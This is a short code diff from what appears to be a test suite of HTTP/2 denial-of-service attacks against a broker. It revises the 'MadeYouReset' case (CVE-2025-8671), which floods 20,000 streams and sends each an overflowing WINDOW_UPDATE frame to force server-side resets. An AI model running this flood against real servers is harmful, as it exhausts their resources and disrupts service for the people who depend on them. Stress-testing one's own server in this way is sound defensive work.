@@ -45,7 +45,8 @@ def rapid_reset(client, _options):
 def made_you_reset(client, _options):
     """G7: streams that the broker has to reset because of a mistake in them (CVE-2025-8671)."""
     wire = Wire(client)
-    mistake = lambda stream: frame_bytes(8, 0, stream, bytes(4))
+    # More window than there can be: an error of the stream, and not of the connection.
+    mistake = lambda stream: WindowUpdateFrame(stream, window_increment=0x7FFF_FFFF).serialize()
     return many(wire, 20_000, lambda stream: wire.call(stream, UPLOAD, end=False) + mistake(stream))
 
 
